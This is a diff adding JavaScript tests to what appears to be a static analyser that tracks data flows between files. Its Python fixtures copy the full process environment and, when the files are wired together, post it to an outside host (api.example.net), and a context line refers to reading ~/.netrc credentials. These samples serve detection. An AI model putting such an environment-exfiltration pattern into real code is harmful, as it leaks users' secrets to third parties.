@@ -68,3 +68,18 @@ describe("what a program reaches by itself", () => {
     expect(needs("import netrc\nprint(netrc.netrc('a.txt').hosts)")).not.toContain("filesystem.read:~/.netrc");
   });
 });
+
+describe("files that import nothing of each other", () => {
+  const test =
+    "import os, subprocess\n\ndef run(env):\n    return subprocess.run(['git', 'status'], env=env)\n\nENV = dict(os.environ)\nENV['A'] = '1'\nprint(run(ENV))\n";
+  const sender = "import json, requests\n\ndef call(body):\n    requests.post('https://api.example.net', data=json.dumps(body).encode())\n";
+
+  it("hand each other nothing", () => {
+    expect(flowsOf({ "tests/test_a.py": test, "scripts/a.py": sender })).toEqual([]);
+  });
+
+  it("do when one imports the other", () => {
+    expect(flowsOf({ "tests/test_a.py": `from scripts import a\n${test}a.call(ENV)\n`, "scripts/a.py": sender })).not.toEqual([]);
+    expect(flowsOf({ "tests/test_a.py": `from ..scripts.a import call\n${test}call(ENV)\n`, "scripts/a.py": sender })).not.toEqual([]);
+  });
+});
